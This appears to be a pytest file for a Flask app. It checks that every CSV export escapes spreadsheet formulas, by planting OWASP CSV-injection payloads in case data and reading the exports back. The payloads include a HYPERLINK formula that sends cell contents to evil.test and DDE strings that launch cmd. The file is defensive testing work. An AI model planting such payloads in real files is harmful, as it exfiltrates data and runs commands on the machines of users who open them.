"""Every CSV the product writes is safe to open in a spreadsheet: no cell can run as a formula.

Text that callers sent (sites, segments, features, unit names, labels, e-mail addresses) is
planted with formula payloads, then every CSV route is downloaded and read back cell by cell.
CSV_ROUTES is the list of those routes; a view that mentions CSV and is not listed fails
`test_every_csv_route_is_listed`, and only feedback/csvsafe.py may write CSV at all.
"""

from __future__ import annotations

import csv
import inspect
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from feedback import csvsafe
from feedback.audit import Actor
from feedback.db import utcnow
from feedback.exports import queries as export_queries
from feedback.exports import services as exports
from feedback.impact import panels as impact_panels
from feedback.impact import runs as impact_runs
from feedback.models import EXPORT_FORMATS, BacklogItem, ExportJob, ModelVersion
from feedback.outcomes import services as outcomes
from feedback.review import decisions
from feedback.schemas import OutcomeIn
from tests.factories import login, make_case, make_model, make_user, token_for
from tests.helpers import simulated_panel

ROOT = Path(__file__).resolve().parents[2]
# Formula payloads from OWASP's CSV injection page, one per dangerous first character.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # a full-width equals sign
]
UNSTRIPPED = ["\t=1+1", "\r=1+1"]  # leading whitespace survives only where text is not stripped
SITES = PAYLOADS
# url -> the endpoint that answers it; each url must carry planted text (NUMBERS_ONLY aside).
CSV_ROUTES: dict[str, str] = {
    "/models/claims?format=csv": "overrides.overview",
    "/models/claims?format=csv&table=chart": "overrides.overview",
    "/models/claims/breakdown?by=site&format=csv": "overrides.breakdown",
    "/models/claims/breakdown?by=segment.claim_band&format=csv": "overrides.breakdown",
    "/models/claims/breakdown?by=site&format=csv&table=matrix": "overrides.breakdown",
    "/models/claims/right?by=model_version&format=csv": "overrides.right",
    "/models/claims/right?by=reviewer&format=csv": "overrides.right",
    "/models/claims/right?format=csv&table=reviewers": "overrides.right",
    "/exceptions/dashboard.csv?by=site": "decision_exceptions.dashboard_csv",
    "/models/claims/backlog?format=csv": "backlog.index",
    "/backlog/{item_id}?format=csv": "backlog.detail",
    "/impact/panels/{panel_id}.csv": "impact.panel_csv",
    "/impact/analyses/{staggered_id}.csv?table=event_study": "impact.run_csv",
    "/impact/analyses/{staggered_id}.csv?table=cells": "impact.run_csv",
    "/impact/analyses/{staggered_id}.csv?table=group": "impact.run_csv",
    "/impact/analyses/{staggered_id}.csv?table=calendar": "impact.run_csv",
    "/impact/analyses/{ab_id}.csv?table=metrics": "impact.run_csv",
    "/exports/{job_id}/download": "exports.download",
    "/api/v1/exports/decisions?model=claims&format=csv": "api.export_decisions",
    "/models/claims/challengers?version=-v2&by=segment.claim_band&format=csv": "challengers.compare",
    "/models/claims/drift?version=-v1&format=csv": "drift.drift_page",
    "/models/claims/drift?version=-v1&format=csv&table=daily&feature=features.amount": "drift.drift_page",
}
# Tables of numbers and of registered keys only: nothing a caller typed reaches them.
NUMBERS_ONLY = {
    # Drift names features by their keys, which ingest counts only when they match a safe pattern.
    "/models/claims/drift?version=-v1&format=csv",
    "/models/claims/drift?version=-v1&format=csv&table=daily&feature=features.amount",
    "/models/claims?format=csv&table=chart",
    "/models/claims/breakdown?by=site&format=csv&table=matrix",
    "/impact/analyses/{staggered_id}.csv?table=event_study",
    "/impact/analyses/{staggered_id}.csv?table=cells",
}
# Views that mention CSV without writing one.
NOT_CSV_OUTPUT = {
    "impact.upload_panel": "reads an uploaded CSV",
    "impact.panel": "links to the CSV",
    "decision_exceptions.dashboard": "links to the CSV",
}


@pytest.fixture
def planted(app: Flask, session) -> dict[str, object]:
    """Cases, decisions, an exception, a backlog item, a panel, analyses and an export, all carrying payloads."""
    model = make_model(session, version="-v1")
    admin = make_user(session, "admin")
    reviewer = make_user(session, "frontline", email="=cmd|' /C calc'!A0@evil.test")
    for n in range(1, 13):
        hostile = PAYLOADS[n % len(PAYLOADS)]
        case = make_case(
            session,
            n,
            model_version="-v1",
            external_id=f"{hostile}#{n}",
            site=SITES[n % len(SITES)],
            segment={"claim_band": hostile},
            features={"note": UNSTRIPPED[n % 2], "amount": -12000 - n, "ratio": -0.5},
        )
        action = "escalate" if n == 12 else "override" if n % 3 else "accept"
        decisions.record_decision(
            session,
            reviewer,
            recommendation_id=case.id,
            action=action,
            final_action="deny" if action == "override" else None,
            reason_code="missing_context" if action == "override" else None,
            note="unclear" if action == "escalate" else "",
        )
    plant_challengers(session, admin)
    observed = [
        OutcomeIn(recommendation_id=n, outcome="pay", observed_at=utcnow(), source=PAYLOADS[0]) for n in range(1, 12)
    ]
    outcomes.record_outcomes(session, admin_actor(admin), items=observed)
    version_id = session.scalar(select(ModelVersion.id))
    item = BacklogItem(
        model_id=model.id,
        model_version_id=version_id,
        pattern_key=f"site={SITES[1]}",
        conditions=[{"dim": "site", "kind": "category", "value": SITES[1]}],
        title=PAYLOADS[0],
        cases=10,
        overrides=5,
        rate=0.5,
        rate_low=0.2,
        rate_high=0.8,
        baseline=0.1,
        excess=4,
        q_value=0.01,
        wrong_share=0.5,
        priority=2.0,
    )
    session.add(item)
    session.commit()

    frame = simulated_panel(np.random.default_rng(3), units=10, periods=8)
    frame["unit"] = [PAYLOADS[int(u[1:]) % len(PAYLOADS)] + u for u in frame["unit"]]
    panel = impact_panels.upload_panel(session, admin, name=PAYLOADS[0], raw=frame.to_csv(index=False).encode())
    staggered = impact_runs.queue_panel_analysis(session, admin, panel_id=panel.id, control="never", method="reg")
    staggered.status, staggered.result = "done", staggered_result()
    experiment = services_experiment(session, admin, model.id)
    ab = impact_runs.queue_ab_analysis(session, admin, experiment_id=experiment)
    metric = {"metric": PAYLOADS[3], "label": PAYLOADS[0], "rows": 10, "lift": -0.25}
    ab.status, ab.result = "done", {"metrics": [metric]}
    session.commit()

    job = exports.create_job(session, admin, spec=export_queries.ExportSpec(model_key="claims", include_reviewer=True))
    from webapp.extensions import db

    with app.app_context():
        exports.run_job(db.sessionmaker, job.id)
    assert session.get(ExportJob, job.id, populate_existing=True).status == "done"
    ids = {"item_id": item.id, "panel_id": panel.id, "staggered_id": staggered.id, "ab_id": ab.id, "job_id": job.id}
    session.rollback()  # SQLite: end this read before the next write
    token = token_for(app, session, admin)
    client = app.test_client()
    login(client, admin)
    return {"ids": ids, "client": client, "token": token}


def plant_challengers(session, admin) -> None:
    """A shadow version "-v2" (a formula to a spreadsheet) with a challenger on every case."""
    from feedback.catalog import services as catalog
    from feedback.challengers import services as challengers
    from feedback.schemas import ChallengerIn, ModelVersionIn

    catalog.add_model_version(
        session, admin_actor(admin), model_key="claims", spec=ModelVersionIn(version="-v2", stage="shadow")
    )
    for n in range(1, 13):
        shadow = {"model_version": "-v2", "recommended_action": "deny", "confidence": 0.7}
        item = ChallengerIn.model_validate({**shadow, "explanation": {"summary": PAYLOADS[0]}})
        challengers.add_challengers(session, admin_actor(admin), recommendation_id=n, items=[item])


def admin_actor(admin) -> Actor:
    """The admin as the actor of a service call."""
    return Actor(admin.id, admin.email)


def staggered_result() -> dict[str, object]:
    """A finished staggered analysis whose cohort and period labels came from an uploaded panel."""
    return {
        "event_study": {"rows": [{"key": -1, "att": -0.5, "se": 0.1, "ci_low": -0.7, "ci_high": -0.3,
                                  "band_low": -0.8, "band_high": -0.2}]},
        "cells": [{"cohort": 2, "time": 3, "att": -1.5, "se": 0.2, "band_low": -2.0, "band_high": -1.0}],
        "aggregates": {"group": {"table": [[2, -1.5, 0.2]]}, "calendar": {"table": [[3, -1.5, 0.2]]}},
        "labels": {"2": PAYLOADS[0], "3": PAYLOADS[2]},
    }  # fmt: skip


def services_experiment(session, admin, model_id: int) -> int:
    """An A/B experiment to hang an analysis on."""
    from feedback.impact import experiments

    return experiments.create_experiment(
        session, admin, key="ab", name=PAYLOADS[0], model_id=model_id, kind="ab", unit="case"
    ).id


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV document, header included."""
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def unsafe(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    plain_number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
    return [c for c in cells if c[:1] in csvsafe.FORMULA_STARTS and not plain_number.fullmatch(c)]


def fetch(client: FlaskClient, url: str, planted: dict[str, object]) -> str:
    """The CSV at url, checked to be a CSV attachment."""
    headers = planted["token"] if url.startswith("/api/") else {}
    response = client.get(url.format(**planted["ids"]), headers=headers)
    assert response.status_code == 200, (url, response.text[:300])
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"], url
    return response.get_data(as_text=True)


@pytest.mark.parametrize("url", CSV_ROUTES)
def test_no_cell_of_any_csv_route_runs_as_a_formula(planted, url):
    text = fetch(planted["client"], url, planted)
    cells = cells_of(text)
    assert len(cells) > 1 and unsafe(cells) == [], url
    if url not in NUMBERS_ONLY:
        # The planted text reached this file and was neutralised rather than dropped.
        assert any(c[:1] == "'" and c[1:2] in csvsafe.FORMULA_STARTS for c in cells), url


def test_the_export_keeps_text_readable_and_numbers_numbers(planted):
    text = fetch(planted["client"], "/api/v1/exports/decisions?model=claims&format=csv&include_reviewer=1", planted)
    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert set(frame["site"]) == {"'" + site for site in SITES}
    assert set(frame["feature.note"]) == {"'" + value for value in UNSTRIPPED}
    assert (frame["feature.amount"] < 0).all() and frame["feature.ratio"].eq(-0.5).all()
    assert set(frame["model_version"]) == {"'-v1"}
    assert all(e.startswith("'=cmd") for e in frame["reviewer_email"])


@pytest.mark.parametrize("fmt", [f for f in EXPORT_FORMATS if f != "csv"])
def test_parquet_and_json_lines_stay_exact(planted, fmt):
    client = planted["client"]
    response = client.get(f"/api/v1/exports/decisions?model=claims&format={fmt}", headers=planted["token"])
    assert response.status_code == 200
    data = io.BytesIO(response.get_data())
    frame = pd.read_parquet(data) if fmt == "parquet" else pd.DataFrame([json.loads(line) for line in data])
    assert set(frame["site"]) == set(SITES) and set(frame["feature.note"]) == set(UNSTRIPPED)
    assert {e.split("#")[0] for e in frame["external_id"]} == set(PAYLOADS) and set(frame["model_version"]) == {"-v1"}


def test_every_export_format_is_covered():
    assert set(EXPORT_FORMATS) == {"csv", "parquet", "jsonl"}, "cover the new format above"


def test_every_csv_route_is_listed(app: Flask):
    """A view that mentions CSV must be in CSV_ROUTES (or say why it writes none)."""
    listed = set(CSV_ROUTES.values())
    endpoints = {rule.endpoint for rule in app.url_map.iter_rules()} - {"static"}
    assert listed <= endpoints, "CSV_ROUTES names routes that no longer exist"
    mentions = {
        endpoint
        for endpoint in endpoints
        if re.search(r"csv|MEDIA_TYPES|exports\.stream", inspect.getsource(app.view_functions[endpoint]), re.I)
    }
    assert mentions - listed - NOT_CSV_OUTPUT.keys() == set(), "add these CSV routes to CSV_ROUTES"


def test_only_the_safe_writer_writes_csv():
    """No module but feedback/csvsafe.py imports csv, calls to_csv or names the CSV media type."""
    pattern = re.compile(r"^\s*(import csv|from csv import)|\.to_csv\(|[\"']text/csv[\"']", re.M)
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("feedback", "webapp", "analytics")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvsafe.py" and pattern.search(path.read_text())
    ]
    assert offenders == []


def test_the_background_export_stores_what_the_streamed_export_sends(planted):
    streamed = planted["client"].get(
        "/api/v1/exports/decisions?model=claims&format=csv&include_reviewer=true", headers=planted["token"]
    )
    downloaded = fetch(planted["client"], "/exports/{job_id}/download", planted)
    assert downloaded == streamed.get_data(as_text=True) and "'=HYPERLINK" in downloaded
